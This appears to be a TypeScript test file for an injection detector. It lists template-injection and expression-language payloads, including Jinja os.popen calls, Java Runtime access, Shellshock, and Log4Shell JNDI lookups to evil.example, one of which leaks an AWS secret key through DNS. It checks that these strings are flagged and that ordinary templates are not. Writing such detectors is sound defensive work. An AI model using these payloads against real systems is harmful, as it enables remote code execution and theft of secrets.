import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { fuzzRuns } from '../../../test/support/fuzz-runs.ts'
import type { AttackContext } from '../attack.ts'
import { isAttack, rulesOf } from '../fixtures.ts'

const attacks: readonly (readonly [value: string, rule: string])[] = [
  ['{{6*7}}', 'template.arithmetic'],
  ["{{6*'7'}}", 'template.arithmetic'],
  ['${6*7}', 'template.arithmetic'],
  ['#{6*7}', 'template.arithmetic'],
  ['*{6*7}', 'template.arithmetic'],
  ['<%= 6*7 %>', 'template.arithmetic'],
  ['x{{ 1337 + 1 }}y', 'template.arithmetic'],
  ['@(6+7)', 'template.arithmetic'],
  ["{{''.__class__.__mro__[1].__subclasses__()}}", 'template.internals'],
  ['{{config.items()}}', 'template.internals'],
  ['{{config}}', 'template.call'],
  ["{{request|attr('application')}}", 'template.internals'],
  ["{{cycler.__init__.__globals__.os.popen('id').read()}}", 'template.internals'],
  ["{{['id']|filter('system')}}", 'template.internals'],
  ["{{_self.env.registerUndefinedFilterCallback('exec')}}", 'template.internals'],
  ["{{constructor.constructor('alert(1)')()}}", 'template.internals'],
  ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'template.internals'],
  ['#set($x="")#set($rt=$x.class.forName("java.lang.Runtime"))', 'template.statement'],
  ['{php}echo 1;{/php}', 'template.internals'],
  ["<%= File.open('/tmp/x').read %>", 'command.php-tag'],
  ['${T(java.lang.Runtime).getRuntime()}', 'template.expression-language'],
  ['%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}', 'template.expression-language'],
  ["${''.getClass().forName('java.lang.Runtime')}", 'template.expression-language'],
  ['__${new java.util.Scanner(x)}__::.x', 'template.expression-language'],
  ['${jndi:ldap://evil.example/a}', 'exploit.cve-2021-44228'],
  ['${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}', 'exploit.cve-2021-44228'],
  ['${${lower:j}ndi:${lower:l}dap://evil.example/a}', 'exploit.cve-2021-44228'],
  ['${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example/a}', 'exploit.cve-2021-44228'],
  ['${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://evil.example/a}', 'exploit.cve-2021-44228'],
  ['${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}', 'exploit.cve-2021-44228'],
  ['${sys:java.version}', 'exploit.cve-2021-44228'],
  ['${script:javascript:java.lang.Runtime.getRuntime()}', 'exploit.cve-2022-42889'],
  ['() { :;}; /bin/id', 'exploit.cve-2014-6271'],
]

const harmless: readonly (readonly [value: string, context?: AttackContext])[] = [
  ['{{name}}'],
  ['Dear {{ user.name }}, your order {{order.id}}'],
  ['${name} and ${user.name}'],
  ['{{price | currency}}'],
  ['${HOME}/bin'],
  ['#{title}'],
  ['{"a":{"b":{}}}'],
  ['100% {sure}'],
  ['<div v-if="x">{{ items.length }}</div>', 'body'],
  ['${date:yyyy}'],
  [
    'You can write {{ 7*7 }} in a template of Jinja, and that is how people find out whether it is one.',
    'body',
  ],
  ['a[[1]] = b'],
  ['f(x) = {x | x > 0}'],
]

test('what a template engine or an expression language would evaluate is an attack', () => {
  for (const [value, rule] of attacks) {
    assert.ok(isAttack(value), value)
    assert.ok(rulesOf(value).includes(rule), `${value}: ${rulesOf(value).join(' ')}`)
  }
})

test('names in templates, sets and settings are none', () => {
  for (const [value, context] of harmless)
    assert.ok(!isAttack(value, context), `${value}: ${rulesOf(value, context).join(' ')}`)
})

test('any nesting is judged without an error', () => {
  const pieces = fc.constantFrom(
    '${',
    '{{',
    '}}',
    '}',
    '#{',
    '<%',
    '%>',
    'lower:',
    '::-',
    ':-',
    'jndi:',
    'j',
    '7',
    '*',
    '[[',
    ']]',
    ' ',
  )
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
      const value = parts.join('')
      assert.deepEqual(rulesOf(value), rulesOf(value))
    }),
    { numRuns: fuzzRuns },
  )
})
